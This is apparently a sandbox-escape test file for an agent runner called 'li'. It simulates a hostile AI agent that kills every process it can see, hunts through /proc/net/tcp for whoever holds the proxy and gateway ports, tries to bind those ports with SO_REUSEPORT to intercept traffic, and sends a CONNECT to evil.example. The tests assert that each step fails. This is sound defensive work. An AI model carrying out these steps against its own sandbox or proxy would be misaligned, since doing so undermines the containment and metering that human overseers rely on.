/**
 * Played as a determined agent under --sandbox workspace: the provider reaches li's proxy and the
 * model gateway through loopback ports of the sandbox (3128 and the gateway's). An agent that
 * could kill the bridges holding them and listen there itself would sit in the middle of the
 * provider's later traffic, the plaintext gateway calls included. The bridges run outside the
 * sandbox, in its network namespace only (docs/sandbox.md#what-runs-where): the agent kills every
 * process it can see, looks for the ports' holders through /proc/net/tcp, and tries to bind both
 * ports (SO_REUSEPORT too). Judged from outside: the loopback fake of Anthropic's API received the
 * call and the store metered it, li's proxy recorded the host it refused, and the agent's
 * listeners got nothing.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { startAnthropic } from "./fixtures/fake-apis/anthropic.js";
import { rows, terminal, untilStatus, useFake, useHomes, useScratches } from "./helpers/fixtures.js";
import { LI_BIN, liData, until } from "./helpers/li.js";
import { sandboxSuite } from "./helpers/sandbox.js";
import { hostileWorld } from "./helpers/hostile-cli.js";
import { GATEWAY_PORT } from "../src/runtime/gateway/plan.js";

const describeSandbox = sandboxSuite("sandbox-attack-bridge.test.ts");
const KEY = "sk-ant-real-key-held-by-li";
const PORTS = [3128, GATEWAY_PORT];

/** Kills every process it sees but pid 1 and its own line of ancestors, and names the holders of li's ports it found. */
const KILL_ALL = [
  'keep=" 1 "; p=$$; while [ -n "$p" ] && [ "$p" != 0 ]; do keep="$keep$p "; p=$(awk \'/^PPid:/{print $2}\' /proc/$p/status); done',
  `inodes=$(awk '$4 == "0A" && (${PORTS.map((n) => `$2 ~ /:${n.toString(16).toUpperCase().padStart(4, "0")}$/`).join(" || ")}) {print $10}' /proc/net/tcp)`,
  'echo "listening inodes: $inodes"',
  'for i in $inodes; do for d in /proc/[0-9]*; do ls -l $d/fd 2>/dev/null | grep -q "socket:\\[$i\\]" && echo "holder ${d#/proc/}"; done; done',
  'n=0; for d in /proc/[0-9]*; do q=${d#/proc/}; case "$keep" in *" $q "*) continue;; esac; kill -9 $q 2>/dev/null && n=$((n+1)); done; echo "killed $n"',
].join("; ");

/** Listens on li's ports where it can (each connection's bytes to hijack-PORT.log), then sends the provider's next requests: a CONNECT through the proxy and a model call to the gateway. */
const ATTACK = `
const fs = require("node:fs"), net = require("node:net"), http = require("node:http");
const listen = (port) => new Promise((resolve) => {
  const s = net.createServer((c) => c.on("data", (d) => fs.appendFileSync("hijack-" + port + ".log", d)));
  s.on("error", (e) => { console.log("listen " + port + ": " + e.code); resolve(); });
  s.listen(port, "127.0.0.1", () => { console.log("listen " + port + ": hijacked"); resolve(); });
  s.unref();
});
const connect = () => new Promise((resolve) => {
  const u = new URL(process.env.HTTPS_PROXY);
  const c = net.connect(Number(u.port), u.hostname, () => c.write("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n"));
  let head = "";
  c.on("data", (d) => { head += d; if (head.includes("\\r\\n")) { console.log("connect: " + head.split("\\r\\n")[0]); c.destroy(); resolve(); } });
  c.on("error", (e) => { console.log("connect: " + e.code); resolve(); });
  c.setTimeout(10000, () => { console.log("connect: timeout"); c.destroy(); resolve(); });
});
const call = () => new Promise((resolve) => {
  const base = new URL(process.env.ANTHROPIC_BASE_URL);
  const body = JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 10, messages: [{ role: "user", content: "hi" }] });
  const req = http.request({ host: base.hostname, port: base.port, method: "POST", path: base.pathname + "/v1/messages", headers: { "content-type": "application/json", "x-api-key": process.env.ANTHROPIC_API_KEY, "anthropic-version": "2023-06-01" }, timeout: 10000 }, (res) => { res.resume(); res.on("end", () => { console.log("call: " + res.statusCode); resolve(); }); });
  req.on("error", (e) => { console.log("call: " + e.code); resolve(); });
  req.on("timeout", () => { console.log("call: timeout"); req.destroy(); });
  req.end(body);
});
(async () => { for (const p of ${JSON.stringify(PORTS)}) await listen(p); await connect(); await call(); process.exit(0); })();
`;

describeSandbox("the bridges to li's proxy and gateway are out of the agent's reach", () => {
  const homes = useHomes({ stopRuns: true });
  const fake = useFake(() => startAnthropic());
  const scratchDir = useScratches("li-atk-bridge-");

  test("an agent that kills every process it sees and binds 3128 and the gateway's port gets nothing: the provider's next requests still reach li's proxy and the gateway, metered", async () => {
    const h = homes();
    const scratch = scratchDir();
    const w = hostileWorld(scratch, h.env);
    const work = w.work;
    fs.writeFileSync(path.join(work, "attack.js"), ATTACK);
    const env = { ...w.env, ANTHROPIC_BASE_URL: fake().url, ANTHROPIC_API_KEY: KEY };
    const seen = fake().requests.length;
    // SO_REUSEPORT would let a second listener share a port whose holder set it too: a bind that holds is killed at 2 s (124); a refused one exits 1 at once.
    const reuse = PORTS.map((p) => `timeout 2 socat TCP-LISTEN:${p},bind=127.0.0.1,reuseaddr,reuseport OPEN:/dev/null </dev/null >/dev/null 2>&1; echo "reuseport ${p}: $?"`).join("; ");
    const step = `${KILL_ALL}; ${reuse}; "${process.execPath}" attack.js 2>&1`;
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "claude/claude-sonnet-4-5", step], { env, cwd: work });
    const done = await terminal(env, r.id, 90_000);
    expect(done).toMatchObject({ status: "completed", sandbox: { mode: "workspace" }, usage_source: "gateway" });
    const text = (await liData(["job", "output", r.id], { env })).output as string;
    expect(text).toContain("killed ");
    // The ports are held, but by no process the agent can see.
    expect(text).toMatch(/listening inodes: \d+\s+\d+/);
    expect(text).not.toContain("holder ");
    for (const p of PORTS) {
      expect(text).toContain(`reuseport ${p}: 1`);
      expect(text).toContain(`listen ${p}: EADDRINUSE`);
      expect(fs.existsSync(path.join(work, `hijack-${p}.log`))).toBe(false);
    }
    // li's proxy answered the CONNECT, and recorded the host it refused.
    expect(text).toContain("connect: HTTP/1.1 403");
    expect(done.sandbox.denials.hosts).toEqual(expect.arrayContaining([{ host: "evil.example:443", count: 1 }]));
    // The gateway carried the model call to the upstream with the real key, and metered it.
    expect(text).toContain("call: 200");
    const got = fake().requests.slice(seen);
    expect(got.map((q) => `${q.method} ${q.path}`)).toContain("POST /v1/messages");
    expect(got.every((q) => q.headers["x-api-key"] === KEY)).toBe(true);
    const statuses = (await rows(h, "SELECT status FROM gateway_calls WHERE entity_id = ? ORDER BY seq", [r.id])).map((c: any) => c.status);
    expect(statuses).toContain("ok");
  }, 120_000);

  // An unprivileged user's bubblewrap nests the sandbox in a second user namespace, which owns none
  // of its other namespaces: the bridge must still get in. li run as nobody, as sandbox-limits.test.ts does.
  const asRoot = process.getuid?.() === 0;
  (asRoot ? test : test.skip)(`as an unprivileged user too: after the agent kills what it sees and tries to bind 3128, its next CONNECT reaches li's proxy${asRoot ? "" : " (skipped: needs root to become nobody)"}`, () => {
    const home = scratchDir("li-bridge-nobody-");
    fs.chmodSync(home, 0o777);
    // The person's home beside the run's tree: a checkout run whose tree holds the home is refused.
    const person = scratchDir("li-person-");
    fs.chmodSync(person, 0o777);
    const env = { PATH: process.env.PATH, LI_HOME: home, HOME: person, LI_TEST_HOSTILE_MOCK: "1" };
    const asNobody = (args: string[]) => JSON.parse(execFileSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, LI_BIN, "--machine", ...args], { env, cwd: home, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).toString());
    const prompt = [`sh ${KILL_ALL}; timeout 2 socat TCP-LISTEN:3128,bind=127.0.0.1,reuseaddr,reuseport OPEN:/dev/null </dev/null >/dev/null 2>&1; echo "bind 3128: $?"`, "connect evil.example 443"].join("\n");
    const done = asNobody(["agent", "--sandbox", "workspace", "mock/hostile", prompt]).data;
    expect(done.status).toBe("completed");
    const out = asNobody(["job", "output", done.id]).data.output as string;
    expect(out).toContain("killed ");
    expect(out).not.toContain("holder ");
    expect(out).toContain("bind 3128: 1");
    expect(out).toContain("connect evil.example:443: refused (HTTP/1.1 403");
    const status = asNobody(["job", "status", done.id]).data.jobs[0];
    expect(status.sandbox.denials.hosts).toEqual(expect.arrayContaining([{ host: "evil.example:443", count: 1 }]));
  }, 120_000);

  /** Live (not zombie) processes whose command line names `text`, as the host's /proc has them. */
  const naming = (text: string) =>
    fs.readdirSync("/proc").filter((p) => {
      if (!/^\d+$/.test(p)) return false;
      try {
        return fs.readFileSync(`/proc/${p}/cmdline`, "latin1").includes(text) && !/^State:\s+[ZX]/m.test(fs.readFileSync(`/proc/${p}/status`, "latin1"));
      } catch {
        return false;
      }
    });

  test("kill -9 of the worker leaves no bridge behind", async () => {
    const h = homes();
    const scratch = scratchDir();
    const env = { ...h.env, LI_TEST_HOSTILE_MOCK: "1" };
    const r = await liData(["agent", "--detach", "--sandbox", "workspace", "mock/hostile", "connect evil.example 443\nsleep 60"], { env, cwd: scratch });
    // The first CONNECT went through the bridge: it is up.
    const running = await untilStatus(env, r.id, (j) => j.sandbox?.denials?.hosts?.length > 0, 60_000);
    const sock = path.join(running.run_dir, "sandbox", "proxy.sock");
    const bridges = naming(`UNIX-CONNECT:${sock}`);
    expect(bridges.length).toBeGreaterThan(0);
    process.kill(running.pid, "SIGKILL");
    await until(() => naming(`UNIX-CONNECT:${sock}`).length === 0, 15_000);
  }, 90_000);
});
